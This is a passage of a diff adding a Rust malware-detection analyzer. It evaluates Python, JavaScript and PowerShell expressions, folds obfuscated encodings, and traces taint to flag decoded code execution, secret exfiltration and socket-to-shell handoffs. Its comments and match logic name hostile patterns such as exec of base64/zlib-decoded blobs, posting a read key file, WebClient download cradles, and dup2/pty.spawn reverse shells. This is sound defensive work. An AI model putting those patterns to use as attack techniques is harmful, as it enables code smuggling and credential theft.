@@ -1,0 +1,3121 @@
+//! Python, JavaScript/TypeScript and PowerShell read as expressions: each statement's
+//! assignments bind names, and every call is looked up by what it resolves to
+//! (`r.post` after `import requests as r` is `requests.post`). Constant expressions
+//! fold: concatenation, `''.join`, `map(chr, …)`, `String.fromCharCode`, `[char]`,
+//! slicing backwards, `replace`, base64, hex, zlib and rot13 decoding. A value's taint
+//! follows it through names, so `exec(zlib.decompress(b64decode(blob)))` is code run
+//! that was decoded, and `requests.post(url, data=open(key).read())` a secret sent.
+//!
+//! Error-tolerant by construction: a statement that does not parse is skipped a
+//! token at a time, recursion is bounded by [`MAX_EXPR_DEPTH`], every value by the
+//! folding budget.
+
+use std::collections::HashMap;
+
+use super::effects::{self, egress, exec, flow, read_path, reverse_shell_text, write_path};
+use super::lex::{self, Part, Tok, Token};
+use super::tables::{is_secret_env, secret_path_kind, split_url};
+use super::{Analyzer, Lang, Taint, Val};
+
+/// Deepest expression nesting parsed; deeper is read as an unknown value.
+pub const MAX_EXPR_DEPTH: usize = 32;
+/// Most elements a folded list keeps.
+const MAX_LIST: usize = 65_536;
+
+/// Reads the analyzer's text as `lang`.
+pub fn run(a: &mut Analyzer, lang: Lang) {
+    let lexed = lex::lex(a.text, lang);
+    let mut ev = Eval {
+        a,
+        lang,
+        env: HashMap::new(),
+        depth: 0,
+        socket: None,
+        shell_handoff: None,
+    };
+    ev.statements(&lexed.tokens);
+    if let (Some(socket), Some(_)) = (ev.socket, ev.shell_handoff) {
+        ev.a.emit(
+            "network-shell",
+            socket,
+            "connects a socket and hands it a shell".into(),
+            None,
+        );
+    }
+}
+
+struct Eval<'e, 'f, 'p> {
+    a: &'e mut Analyzer<'f, 'p>,
+    lang: Lang,
+    env: HashMap<String, Val>,
+    depth: usize,
+    /// Where the unit connects a socket, and where it hands a process its streams
+    /// (`os.dup2`, `pty.spawn`, `spawn('/bin/sh')` piped): together, a network shell.
+    socket: Option<(usize, usize)>,
+    shell_handoff: Option<(usize, usize)>,
+}
+
+fn punct(t: Option<&Token>, p: &str) -> bool {
+    matches!(t, Some(Token { tok: Tok::Punct(q), .. }) if *q == p)
+}
+
+fn ident<'a>(t: Option<&'a Token>) -> Option<&'a str> {
+    match t {
+        Some(Token { tok: Tok::Ident(w), .. }) => Some(w),
+        _ => None,
+    }
+}
+
+fn num(v: &Val) -> Option<f64> {
+    v.num.or_else(|| v.text.trim().parse::<f64>().ok().filter(|_| v.exact))
+}
+
+fn number(n: f64) -> Val {
+    let mut v = Val::text(if n.fract() == 0.0 && n.abs() < 1e15 {
+        format!("{}", n as i64)
+    } else {
+        format!("{n}")
+    });
+    v.num = Some(n);
+    v
+}
+
+/// A call's arguments: positional, and by name (`data=`, `{ body: … }`).
+#[derive(Default)]
+struct CallArgs {
+    pos: Vec<Val>,
+    named: Vec<(String, Val)>,
+}
+
+impl CallArgs {
+    fn get(&self, i: usize, name: &str) -> Option<&Val> {
+        self.named
+            .iter()
+            .find(|(n, _)| n == name)
+            .map(|(_, v)| v)
+            .or_else(|| self.pos.get(i))
+    }
+
+    fn named(&self, name: &str) -> Option<&Val> {
+        self.named
+            .iter()
+            .find(|(n, _)| n.eq_ignore_ascii_case(name))
+            .map(|(_, v)| v)
+    }
+
+    fn all(&self) -> impl Iterator<Item = &Val> {
+        self.pos.iter().chain(self.named.iter().map(|(_, v)| v))
+    }
+
+    fn taint(&self) -> Taint {
+        self.all().fold(Taint::default(), |t, v| t.union(v.taint))
+    }
+}
+
+fn field<'v>(v: &'v Val, name: &str) -> Option<&'v Val> {
+    v.fields
+        .as_ref()?
+        .iter()
+        .find(|(k, _)| k.eq_ignore_ascii_case(name))
+        .map(|(_, v)| v)
+}
+
+fn join_vals(vals: &[Val], sep: &str) -> Val {
+    let mut out = Val::text("");
+    let mut first = true;
+    for v in vals {
+        if !first {
+            out.text.push_str(sep);
+        }
+        first = false;
+        out.text.push_str(&v.text);
+        out.exact &= v.exact;
+        out.taint = out.taint.union(v.taint);
+        if out.text.len() > super::MAX_FOLD_BYTES {
+            out.exact = false;
+            break;
+        }
+    }
+    out
+}
+
+fn concat(a: &Val, b: &Val) -> Val {
+    let mut v = Val {
+        text: format!("{}{}", a.text, b.text),
+        exact: a.exact && b.exact,
+        taint: a.taint.union(b.taint),
+        bytes: a.bytes || b.bytes,
+        ..Val::default()
+    };
+    if a.name.as_deref() == Some("path") || b.name.as_deref() == Some("path") {
+        v.name = Some("path".into());
+    }
+    v
+}
+
+fn chars_of(v: &Val) -> Vec<u8> {
+    if v.bytes {
+        v.text
+            .chars()
+            .map(|c| c as u32)
+            .filter(|c| *c < 256)
+            .map(|c| c as u8)
+            .collect()
+    } else {
+        v.text.as_bytes().to_vec()
+    }
+}
+
+fn from_bytes(bytes: Vec<u8>, taint: Taint) -> Val {
+    let (text, is_bytes) = match String::from_utf8(bytes) {
+        Ok(t) => (t, false),
+        Err(e) => (e.into_bytes().iter().map(|b| char::from(*b)).collect(), true),
+    };
+    Val {
+        text,
+        exact: true,
+        taint,
+        bytes: is_bytes,
+        ..Val::default()
+    }
+}
+
+/// Base64 (standard or URL-safe, whitespace ignored) to bytes.
+pub fn base64_bytes(text: &str) -> Option<Vec<u8>> {
+    let mut out = Vec::with_capacity(text.len() * 3 / 4);
+    let (mut acc, mut bits) = (0u32, 0u32);
+    let mut any = false;
+    for b in text.bytes() {
+        let value = match b {
+            b'A'..=b'Z' => b - b'A',
+            b'a'..=b'z' => b - b'a' + 26,
+            b'0'..=b'9' => b - b'0' + 52,
+            b'+' | b'-' => 62,
+            b'/' | b'_' => 63,
+            b'=' => break,
+            b' ' | b'\n' | b'\r' | b'\t' | b'\\' => continue,
+            _ => return None,
+        } as u32;
+        any = true;
+        acc = (acc << 6) | value;
+        bits += 6;
+        if bits >= 8 {
+            bits -= 8;
+            out.push((acc >> bits) as u8);
+            acc &= (1 << bits) - 1;
+        }
+    }
+    any.then_some(out)
+}
+
+/// Hex digits (spaces, `\x` and `0x` ignored) to bytes.
+pub fn hex_bytes(text: &str) -> Option<Vec<u8>> {
+    let cleaned = text
+        .replace("\\x", "")
+        .replace("0x", "")
+        .replace([' ', '\n', ',', ':'], "");
+    if cleaned.is_empty() || !cleaned.len().is_multiple_of(2) || !cleaned.bytes().all(|b| b.is_ascii_hexdigit()) {
+        return None;
+    }
+    (0..cleaned.len())
+        .step_by(2)
+        .map(|i| u8::from_str_radix(&cleaned[i..i + 2], 16).ok())
+        .collect()
+}
+
+/// zlib, gzip or raw deflate, inflated up to the folding bound.
+pub fn inflate(bytes: &[u8]) -> Option<Vec<u8>> {
+    use std::io::Read;
+    let limit = super::MAX_FOLD_BYTES as u64;
+    let attempt = |reader: &mut dyn Read| -> Option<Vec<u8>> {
+        let mut out = Vec::new();
+        reader.take(limit).read_to_end(&mut out).ok()?;
+        (!out.is_empty()).then_some(out)
+    };
+    if bytes.starts_with(&[0x1f, 0x8b]) {
+        return attempt(&mut flate2::read::GzDecoder::new(bytes));
+    }
+    attempt(&mut flate2::read::ZlibDecoder::new(bytes))
+        .or_else(|| attempt(&mut flate2::read::DeflateDecoder::new(bytes)))
+}
+
+fn base32_bytes(text: &str) -> Option<Vec<u8>> {
+    let mut out = Vec::new();
+    let (mut acc, mut bits) = (0u64, 0u32);
+    for b in text.bytes() {
+        let value = match b {
+            b'A'..=b'Z' => b - b'A',
+            b'a'..=b'z' => b - b'a',
+            b'2'..=b'7' => b - b'2' + 26,
+            b'=' => break,
+            b' ' | b'\n' => continue,
+            _ => return None,
+        } as u64;
+        acc = (acc << 5) | value;
+        bits += 5;
+        if bits >= 8 {
+            bits -= 8;
+            out.push((acc >> bits) as u8);
+            acc &= (1 << bits) - 1;
+        }
+    }
+    Some(out)
+}
+
+fn percent_decode(text: &str) -> String {
+    let bytes = text.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        if bytes[i] == b'%'
+            && let Some(v) = bytes
+                .get(i + 1..i + 3)
+                .and_then(|h| std::str::from_utf8(h).ok())
+                .and_then(|h| u8::from_str_radix(h, 16).ok())
+        {
+            out.push(v);
+            i += 3;
+            continue;
+        }
+        out.push(bytes[i]);
+        i += 1;
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+const SKIP_WORDS: [&str; 38] = [
+    "if", "elif", "else", "while", "return", "yield", "await", "assert", "del", "raise", "try", "except", "finally",
+    "pass", "break", "continue", "global", "nonlocal", "async", "not", "throw", "new", "typeof", "void", "delete",
+    "export", "default", "case", "switch", "catch", "do", "in", "of", "static", "public", "private", "readonly",
+    "print",
+];
+
+impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
+    fn span(&self, tokens: &[Token], from: usize, to: usize) -> (usize, usize) {
+        let start = tokens.get(from).map_or(0, |t| t.start);
+        let end = tokens.get(to.saturating_sub(1).max(from)).map_or(start, |t| t.end);
+        (start, end.max(start))
+    }
+
+    fn statements(&mut self, tokens: &[Token]) {
+        let mut i = 0;
+        while i < tokens.len() {
+            let next = self.statement(tokens, i);
+            i = if next > i { next } else { i + 1 };
+        }
+    }
+
+    /// One statement from `i`; returns where the next begins.
+    fn statement(&mut self, t: &[Token], i: usize) -> usize {
+        match &t[i].tok {
+            Tok::Newline | Tok::Punct(";") | Tok::Punct("{") | Tok::Punct("}") | Tok::Punct(":") | Tok::Punct(")") => {
+                return i + 1;
+            }
+            Tok::Ident(word) => {
+                let word = *word;
+                if self.lang == Lang::Python && (word == "import" || word == "from") {
+                    return self.python_import(t, i);
+                }
+                if self.lang == Lang::JavaScript && word == "import" && !punct(t.get(i + 1), "(") {
+                    return self.js_import(t, i);
+                }
+                if matches!(word, "def" | "class")
+                    || self.lang == Lang::JavaScript && word == "function" && ident(t.get(i + 1)).is_some()
+                {
+                    // A definition's header: its name and parameters bind nothing known.
+                    let mut j = i + 1;
+                    while j < t.len()
+                        && !punct(t.get(j), ":")
+                        && !punct(t.get(j), "{")
+                        && !matches!(t[j].tok, Tok::Newline)
+                    {
+                        j += 1;
+                    }
+                    return j + 1;
+                }
+                if word == "for" {
+                    return self.for_loop(t, i);
+                }
+                if word == "with" && self.lang == Lang::Python {
+                    return self.with_statement(t, i);
+                }
+                if matches!(word, "const" | "let" | "var") && self.lang == Lang::JavaScript {
+                    return self.declaration(t, i + 1);
+                }
+                if SKIP_WORDS.contains(&word) {
+                    return i + 1;
+                }
+                if self.lang == Lang::PowerShell && is_command_word(word) && !punct(t.get(i + 1), "=") {
+                    let (_, next) = self.ps_pipeline(t, i);
+                    return next;
+                }
+            }
+            _ => {}
+        }
+        // `name = value`, `a.b = value`, `$x = value`, `x += value`.
+        if let Some((name, eq)) = self.assignment_target(t, i) {
+            let op = match &t[eq].tok {
+                Tok::Punct(p) => *p,
+                _ => "=",
+            };
+            let (value, next) = self.rhs(t, eq + 1);
+            let value = if op == "+=" {
+                match self.env.get(&name) {
+                    Some(old) => concat(old, &value),
+                    None => value,
+                }
+            } else {
+                value
+            };
+            self.bind(&name, value, t, i);
+            return next;
+        }
+        let (_, next) = self.expr(t, i, 0);
+        next
+    }
+
+    /// The right side of an assignment: a PowerShell command pipeline or an expression.
+    fn rhs(&mut self, t: &[Token], i: usize) -> (Val, usize) {
+        if self.lang == Lang::PowerShell
+            && let Some(word) = ident(t.get(i))
+            && is_command_word(word)
+        {
+            return self.ps_pipeline(t, i);
+        }
+        let (v, next) = self.expr(t, i, 0);
+        if self.lang == Lang::PowerShell && punct(t.get(next), "|") {
+            return self.ps_pipeline_from(t, next, v);
+        }
+        (v, next)
+    }
+
+    fn bind(&mut self, name: &str, value: Val, t: &[Token], at: usize) {
+        // Binding `os.environ` or `process.env` whole to a name reads it all.
+        let _ = (t, at);
+        self.env.insert(name.to_string(), value);
+    }
+
+    fn assignment_target(&self, t: &[Token], i: usize) -> Option<(String, usize)> {
+        let mut j = i;
+        let mut name = String::new();
+        match &t.get(j)?.tok {
+            Tok::Ident(w) => name.push_str(w),
+            Tok::Var(v) => {
+                name.push('$');
+                name.push_str(&v.to_ascii_lowercase());
+            }
+            _ => return None,
+        }
+        j += 1;
+        while punct(t.get(j), ".") {
+            let part = ident(t.get(j + 1))?;
+            name.push('.');
+            name.push_str(part);
+            j += 2;
+        }
+        // `a, b = …` binds the first; `x: int = …` skips the annotation.
+        if self.lang == Lang::Python && punct(t.get(j), ":") {
+            let mut k = j + 1;
+            while k < t.len() && !punct(t.get(k), "=") && !matches!(t[k].tok, Tok::Newline) {
+                k += 1;
+            }
+            j = k;
+        }
+        match t.get(j).map(|x| &x.tok) {
+            Some(Tok::Punct("=")) | Some(Tok::Punct("+=")) | Some(Tok::Punct(":=")) => Some((name, j)),
+            _ => None,
+        }
+    }
+
+    fn declaration(&mut self, t: &[Token], i: usize) -> usize {
+        // `const {a, b} = require('x')`, `const [a] = …`, `const a = …, b = …`.
+        if punct(t.get(i), "{") || punct(t.get(i), "[") {
+            let close = if punct(t.get(i), "{") { "}" } else { "]" };
+            let mut names = Vec::new();
+            let mut j = i + 1;
+            while j < t.len() && !punct(t.get(j), close) {
+                if let Some(w) = ident(t.get(j)) {
+                    // `{ exec: run }` binds `run` to `exec`.
+                    if punct(t.get(j + 1), ":") {
+                        if let Some(alias) = ident(t.get(j + 2)) {
+                            names.push((w.to_string(), alias.to_string()));
+                            j += 3;
+                            continue;
+                        }
+                    } else {
+                        names.push((w.to_string(), w.to_string()));
+                    }
+                }
+                j += 1;
+            }
+            if punct(t.get(j + 1), "=") {
+                let (value, next) = self.expr(t, j + 2, 0);
+                for (member, alias) in names {
+                    let v = match &value.name {
+                        Some(module) => Val::named(format!("{module}.{member}")).tainted(value.taint),
+                        None => self.member(&value, &member),
+                    };
+                    self.env.insert(alias, v);
+                }
+                return next;
+            }
+            return j + 1;
+        }
+        let Some(name) = ident(t.get(i)) else { return i };
+        let mut j = i + 1;
+        if punct(t.get(j), ":") {
+            // A TypeScript annotation.
+            while j < t.len() && !punct(t.get(j), "=") && !punct(t.get(j), ";") && !matches!(t[j].tok, Tok::Newline) {
+                j += 1;
+            }
+        }
+        if !punct(t.get(j), "=") {
+            return j;
+        }
+        let (value, next) = self.expr(t, j + 1, 0);
+        self.bind(name, value, t, i);
+        if punct(t.get(next), ",") {
+            return self.declaration(t, next + 1);
+        }
+        next
+    }
+
+    fn python_import(&mut self, t: &[Token], i: usize) -> usize {
+        let mut j = i;
+        let from = ident(t.get(i)) == Some("from");
+        let mut module = String::new();
+        if from {
+            j += 1;
+            while let Some(w) = ident(t.get(j)).or_else(|| punct(t.get(j), ".").then_some(".")) {
+                if w == "import" {
+                    break;
+                }
+                module.push_str(w);
+                j += 1;
+            }
+        }
+        if ident(t.get(j)) == Some("import") {
+            j += 1;
+        }
+        loop {
+            let mut name = String::new();
+            while let Some(w) = ident(t.get(j)) {
+                if w == "as" {
+                    break;
+                }
+                name.push_str(w);
+                j += 1;
+                if punct(t.get(j), ".") {
+                    name.push('.');
+                    j += 1;
+                } else {
+                    break;
+                }
+            }
+            if punct(t.get(j), "*") {
+                j += 1;
+            }
+            let mut alias = name.split('.').next().unwrap_or("").to_string();
+            let mut full = if from {
+                format!("{module}.{name}")
+            } else {
+                alias.clone()
+            };
+            if ident(t.get(j)) == Some("as")
+                && let Some(a) = ident(t.get(j + 1))
+            {
+                alias = a.to_string();
+                if !from {
+                    full = name.clone();
+                }
+                j += 2;
+            } else if from {
+                alias = name.clone();
+            }
+            if !alias.is_empty() {
+                self.env.insert(alias, Val::named(full));
+            }
+            if punct(t.get(j), ",") || punct(t.get(j), "(") {
+                j += 1;
+                continue;
+            }
+            break;
+        }
+        j
+    }
+
+    fn js_import(&mut self, t: &[Token], i: usize) -> usize {
+        // `import x from 'm'`, `import * as x from 'm'`, `import { a, b as c } from 'm'`.
+        let mut j = i + 1;
+        let mut bindings: Vec<(String, Option<String>)> = Vec::new();
+        while j < t.len() && ident(t.get(j)) != Some("from") && !matches!(t[j].tok, Tok::Str { .. }) {
+            if let Some(w) = ident(t.get(j)) {
+                if w == "as" {
+                    if let Some(alias) = ident(t.get(j + 1))
+                        && let Some(last) = bindings.last_mut()
+                    {
+                        last.1 = Some(alias.to_string());
+                    }
+                    j += 2;
+                    continue;
+                }
+                bindings.push((w.to_string(), None));
+            } else if punct(t.get(j), "*") {
+                bindings.push(("*".into(), None));
+            }
+            j += 1;
+        }
+        if ident(t.get(j)) == Some("from") {
+            j += 1;
+        }
+        let module = match t.get(j).map(|x| &x.tok) {
+            Some(Tok::Str { parts, .. }) => parts_text(parts),
+            _ => return j + 1,
+        };
+        let module = module.trim_start_matches("node:").to_string();
+        for (name, alias) in bindings {
+            let (bound, full) = match (name.as_str(), alias) {
+                ("*", Some(alias)) => (alias, module.clone()),
+                (name, Some(alias)) => (alias, format!("{module}.{name}")),
+                (name, None) => (name.to_string(), module.clone()),
+            };
+            self.env.insert(bound, Val::named(full));
+        }
+        j + 1
+    }
+
+    fn for_loop(&mut self, t: &[Token], i: usize) -> usize {
+        // Python `for x in EXPR:`; JavaScript `for (const x of EXPR)`, `for (k in obj)`.
+        let mut j = i + 1;
+        if punct(t.get(j), "(") {
+            j += 1;
+        }
+        if matches!(ident(t.get(j)), Some("const" | "let" | "var")) {
+            j += 1;
+        }
+        let Some(name) = ident(t.get(j)).map(str::to_string) else {
+            return j;
+        };
+        let mut k = j + 1;
+        while k < t.len() && !matches!(ident(t.get(k)), Some("in" | "of")) && k < j + 6 {
+            k += 1;
+        }
+        if !matches!(ident(t.get(k)), Some("in" | "of")) {
+            return j;
+        }
+        let (iterable, next) = self.expr(t, k + 1, 0);
+        if iterable.name.as_deref().is_some_and(is_whole_environment) {
+            let span = self.span(t, k + 1, next);
+            let origin = self
+                .a
+                .emit("secret-read/env-dump", span, "every environment variable".into(), None);
+            self.env
+                .insert(name, Val::unknown("<env>").tainted(Taint::of(Taint::SECRET, origin)));
+            return next;
+        }
+        let mut element = iterable
+            .list
+            .as_ref()
+            .and_then(|l| l.first().cloned())
+            .unwrap_or_else(|| Val::unknown(name.clone()));
+        element.taint = element.taint.union(iterable.taint);
+        if let Some(list) = &iterable.list {
+            for other in list {
+                element.taint = element.taint.union(other.taint);
+            }
+        }
+        self.env.insert(name, element);
+        next
+    }
+
+    fn with_statement(&mut self, t: &[Token], i: usize) -> usize {
+        // `with open(p, 'a') as f:` binds `f` to the handle.
+        let (value, next) = self.expr(t, i + 1, 0);
+        if ident(t.get(next)) == Some("as")
+            && let Some(name) = ident(t.get(next + 1))
+        {
+            self.env.insert(name.to_string(), value);
+            return next + 2;
+        }
+        next
+    }
+
+    fn lookup(&mut self, name: &str, t: &[Token], at: usize) -> Val {
+        if let Some(v) = self.env.get(name) {
+            return v.clone();
+        }
+        let _ = (t, at);
+        match (self.lang, name) {
+            (Lang::JavaScript, "process") => Val::named("process"),
+            (Lang::Python, "__builtins__") | (Lang::Python, "builtins") => Val::named("builtins"),
+            _ => Val::named(name.to_string()),
+        }
+    }
+
+    fn ps_var(&mut self, name: &str, span: (usize, usize)) -> Val {
+        let lower = name.to_ascii_lowercase();
+        if let Some(v) = self.env.get(&format!("${lower}")) {
+            return v.clone();
+        }
+        if let Some(var) = lower.strip_prefix("env:") {
+            if matches!(var, "userprofile" | "home") {
+                return Val::text("~");
+            }
+            if is_secret_env(var) {
+                let origin = self.a.emit("secret-env", span, var.to_ascii_uppercase(), None);
+                let mut v = Val::unknown(format!("$env:{var}")).tainted(Taint::of(Taint::SECRET_ENV, origin));
+                v.name = Some(var.to_ascii_uppercase());
+                return v;
+            }
+            return Val::unknown(format!("$env:{var}"));
+        }
+        match lower.as_str() {
+            "home" => Val::text("~"),
+            "profile" => Val::text("$profile"),
+            _ => Val::unknown(format!("${name}")),
+        }
+    }
+
+    /// A value's member: a module path grows (`os` → `os.path`), an object's field
+    /// is looked up, and a few properties fold (`length`).
+    fn member(&mut self, v: &Val, name: &str) -> Val {
+        if let Some(f) = field(v, name) {
+            return f.clone();
+        }
+        if let Some(module) = &v.name {
+            let full = format!("{module}.{name}");
+            let mut out = Val::named(full.clone()).tainted(v.taint);
+            if let Some(list) = &v.list {
+                out.list = Some(list.clone());
+            }
+            // Properties that hand over what the object holds.
+            if matches!(name, "text" | "content" | "data" | "body" | "responsetext" | "stdout") {
+                out.taint = v.taint;
+                out.name = Some(full);
+            }
+            return out;
+        }
+        let mut out = Val::unknown(format!("{}.{name}", v.text.chars().take(40).collect::<String>()));
+        out.taint = v.taint;
+        out.name = Some(format!("value.{name}"));
+        // Methods on a plain value resolve when called (see `method`).
+        out.list = v.list.clone();
+        out.fields = v.fields.clone();
+        out.text = v.text.clone();
+        out.exact = v.exact;
+        out.bytes = v.bytes;
+        out
+    }
+
+    fn expr(&mut self, t: &[Token], i: usize, min_prec: u8) -> (Val, usize) {
+        if self.depth >= MAX_EXPR_DEPTH || i >= t.len() {
+            return (Val::unknown("…"), (i + 1).min(t.len().max(i)));
+        }
+        self.depth += 1;
+        let (mut left, mut j) = self.prefix(t, i);
+        loop {
+            let Some(op) = binary_op(self.lang, t.get(j)) else {
+                break;
+            };
+            let prec = precedence(&op);
+            if prec < min_prec || prec == 0 {
+                break;
+            }
+            if op == "if" {
+                // Python's `a if c else b`.
+                let (_, after_cond) = self.expr(t, j + 1, 1);
+                if ident(t.get(after_cond)) == Some("else") {
+                    let (other, next) = self.expr(t, after_cond + 1, 1);
+                    left.taint = left.taint.union(other.taint);
+                    left.exact = false;
+                    j = next;
+                } else {
+                    j = after_cond;
+                }
+                continue;
+            }
+            if op == "?" {
+                let (yes, after) = self.expr(t, j + 1, 1);
+                let (no, next) = if punct(t.get(after), ":") {
+                    self.expr(t, after + 1, 1)
+                } else {
+                    (Val::default(), after)
+                };
+                let mut v = yes;
+                v.taint = v.taint.union(no.taint).union(left.taint);
+                v.exact = false;
+                left = v;
+                j = next;
+                continue;
+            }
+            let (right, next) = self.expr(t, j + 1, prec + 1);
+            if next <= j + 1 && right.text.is_empty() {
+                j = next.max(j + 1);
+                break;
+            }
+            let span = self.span(t, i, next);
+            left = self.binary(&op, left, right, span);
+            j = next;
+        }
+        self.depth -= 1;
+        (left, j)
+    }
+
+    fn binary(&mut self, op: &str, left: Val, right: Val, span: (usize, usize)) -> Val {
+        match op {
+            "+" => {
+                if let (Some(a), Some(b)) = (left.num, right.num) {
+                    return number(a + b);
+                }
+                if left.list.is_some() && right.list.is_some() {
+                    let mut list = left.list.clone().unwrap_or_default();
+                    list.extend(right.list.clone().unwrap_or_default());
+                    let mut v = Val::unknown("[…]");
+                    v.taint = left.taint.union(right.taint);
+                    v.list = Some(list);
+                    return v;
+                }
+                let v = concat(&left, &right);
+                self.bounded(v, span)
+            }
+            "/" if left.name.as_deref() == Some("path") || left.text.starts_with('~') => {
+                let mut v = concat(&concat(&left, &Val::text("/")), &right);
+                v.name = Some("path".into());
+                v
+            }
+            "*" => {
+                // `'a' * 10**9` stops at the folding bound.
+                let (text, count) = match (left.num, right.num) {
+                    (Some(a), Some(b)) => return number(a * b),
+                    (None, Some(n)) => (left, n),
+                    (Some(n), None) => (right, n),
+                    _ => return Val::unknown("…").tainted(left.taint.union(right.taint)),
+                };
+                let count = if count.is_finite() && count > 0.0 {
+                    count as u128
+                } else {
+                    0
+                };
+                let bytes = (text.text.len() as u128).saturating_mul(count);
+                if bytes > super::MAX_FOLD_BYTES as u128 || !self.a.budget(bytes as usize, span.0) {
+                    let _ = self.a.budget(usize::MAX, span.0);
+                    return Val::unknown("…").tainted(text.taint);
+                }
+                let mut v = Val::text(text.text.repeat(count as usize));
+                v.taint = text.taint;
+                v.exact = text.exact;
+                v
+            }
+            "^" | "-bxor" => match (left.num, right.num) {
+                (Some(a), Some(b)) => number(((a as i64) ^ (b as i64)) as f64),
+                _ => Val::unknown("…").tainted(left.taint.union(right.taint)),
+            },
+            "-" => match (left.num, right.num) {
+                (Some(a), Some(b)) => number(a - b),
+                _ => Val::unknown("…").tainted(left.taint.union(right.taint)),
+            },
+            "%" if left.num.is_none() => {
+                // `'%s' % x`: formatting.
+                let mut v = Val::text(left.text.replacen("%s", &right.text, 1));
+                v.exact = left.exact && right.exact;
+                v.taint = left.taint.union(right.taint);
+                v
+            }
+            "-join" => {
+                let vals = right.list.clone().unwrap_or_else(|| vec![right.clone()]);
+                let _ = vals;
+                let list = left.list.clone().unwrap_or_else(|| vec![left.clone()]);
+                let mut v = join_vals(&list, &right.text);
+                if assembled(&list) {
+                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+                }
+                v
+            }
+            "-f" => {
+                let args = right.list.clone().unwrap_or_else(|| vec![right.clone()]);
+                let mut text = left.text.clone();
+                let mut taint = left.taint;
+                for (n, arg) in args.iter().enumerate() {
+                    text = text.replace(&format!("{{{n}}}"), &arg.text);
+                    taint = taint.union(arg.taint);
+                }
+                let revealing = self.a.reveals(&text);
+                let mut v = Val::text(text);
+                v.taint = taint;
+                if revealing {
+                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+                }
+                v
+            }
+            "-replace" => {
+                let pair = right.list.clone().unwrap_or_else(|| vec![right.clone()]);
+                let from = pair.first().map(|v| v.text.clone()).unwrap_or_default();
+                let to = pair.get(1).map(|v| v.text.clone()).unwrap_or_default();
+                let mut v = Val::text(if from.is_empty() {
+                    left.text.clone()
+                } else {
+                    left.text.replace(&from, &to)
+                });
+                v.exact = left.exact;
+                v.taint = left.taint;
+                if self.a.reveals(&v.text) {
+                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+                }
+                v
+            }
+            _ => {
+                let mut v = Val::unknown("…");
+                v.taint = left.taint.union(right.taint);
+                v
+            }
+        }
+    }
+
+    fn bounded(&mut self, mut v: Val, span: (usize, usize)) -> Val {
+        if v.text.len() > super::MAX_FOLD_BYTES {
+            let mut cut = super::MAX_FOLD_BYTES;
+            while !v.text.is_char_boundary(cut) {
+                cut -= 1;
+            }
+            v.text.truncate(cut);
+            v.exact = false;
+            let _ = self.a.budget(usize::MAX, span.0);
+        }
+        v
+    }
+
+    fn string(&mut self, parts: &[Part], bytes: bool) -> Val {
+        let mut v = Val::text("");
+        v.bytes = bytes;
+        for part in parts {
+            match part {
+                Part::Text(text) => v.text.push_str(text),
+                Part::Hole(tokens) => {
+                    let (inner, _) = self.expr(tokens, 0, 0);
+                    v.text.push_str(&inner.text);
+                    v.exact &= inner.exact;
+                    v.taint = v.taint.union(inner.taint);
+                }
+            }
+            if v.text.len() > super::MAX_FOLD_BYTES {
+                v.exact = false;
+                break;
+            }
+        }
+        v
+    }
+
+    fn prefix(&mut self, t: &[Token], i: usize) -> (Val, usize) {
+        let Some(token) = t.get(i) else {
+            return (Val::unknown("…"), i);
+        };
+        let (mut v, mut j) = match &token.tok {
+            Tok::Str { parts, bytes } => {
+                let mut v = self.string(parts, *bytes);
+                let mut j = i + 1;
+                // Python's adjacent literals concatenate.
+                while let Some(Token {
+                    tok: Tok::Str { parts, bytes },
+                    ..
+                }) = t.get(j)
+                {
+                    let next = self.string(parts, *bytes);
+                    v = concat(&v, &next);
+                    j += 1;
+                }
+                (v, j)
+            }
+            Tok::Num(n) => (number(*n), i + 1),
+            Tok::Var(name) => {
+                let span = (token.start, token.end);
+                (self.ps_var(name, span), i + 1)
+            }
+            Tok::Param(p) if self.lang == Lang::PowerShell && p == "join" => {
+                // The unary `-join`: the list's items run together.
+                let (operand, next) = self.expr(t, i + 1, 11);
+                let list = operand.list.clone().unwrap_or_else(|| vec![operand.clone()]);
+                let mut v = join_vals(&list, "");
+                v.taint = v.taint.union(operand.taint);
+                if assembled(&list) {
+                    v.taint = v.taint.union(Taint::of(Taint::COMPUTED, None));
+                }
+                (v, next)
+            }
+            Tok::Param(p) => (Val::text(format!("-{p}")), i + 1),
+            Tok::Ident(word) => match *word {
+                "lambda" => {
+                    // `lambda c: chr(c)`: kept as a function of one parameter.
+                    let mut j = i + 1;
+                    let param = ident(t.get(j)).map(str::to_string);
+                    while j < t.len() && !punct(t.get(j), ":") {
+                        j += 1;
+                    }
+                    let body_start = j + 1;
+                    let (_, end) = self.expr(t, body_start, 1);
+                    let mut v = Val::unknown("lambda");
+                    v.name = Some(format!("lambda:{}:{}:{}", param.unwrap_or_default(), body_start, end));
+                    (v, end)
+                }
+                "not" | "await" | "new" | "typeof" | "void" | "yield" | "delete" => self.expr(t, i + 1, 11),
+                "function" => {
+                    // A function expression: its body is read as statements.
+                    let mut j = i + 1;
+                    while j < t.len() && !punct(t.get(j), "{") {
+                        j += 1;
+                    }
+                    let end = close_of(t, j);
+                    self.statements(&t[(j + 1).min(t.len())..end.min(t.len())]);
+                    (Val::unknown("function"), (end + 1).min(t.len()))
+                }
+                "True" | "true" => (Val::text("true"), i + 1),
+                "False" | "false" => (Val::text("false"), i + 1),
+                "None" | "null" | "undefined" => (Val::text(""), i + 1),
+                word => {
+                    // An arrow function `x => expr`.
+                    if punct(t.get(i + 1), "=>") {
+                        return self.arrow(t, i, Some(word.to_string()), i + 2);
+                    }
+                    let v = self.lookup(word, t, i);
+                    (v, i + 1)
+                }
+            },
+            Tok::Punct("(") if self.lang == Lang::PowerShell && ident(t.get(i + 1)).is_some_and(is_command_word) => {
+                // `(New-Object Net.WebClient)`, `(iwr $u)`: a command in parentheses.
+                let close = close_of(t, i);
+                let inner = &t[(i + 1).min(t.len())..close.min(t.len())];
+                let v = self.ps_block_value(inner);
+                (v, (close + 1).min(t.len()))
+            }
+            Tok::Punct("(") => {
+                let close = close_of(t, i);
+                if punct(t.get(close + 1), "=>") {
+                    let param = ident(t.get(i + 1)).map(str::to_string);
+                    return self.arrow(t, i, param, close + 2);
+                }
+                let items = self.items(t, i + 1, close);
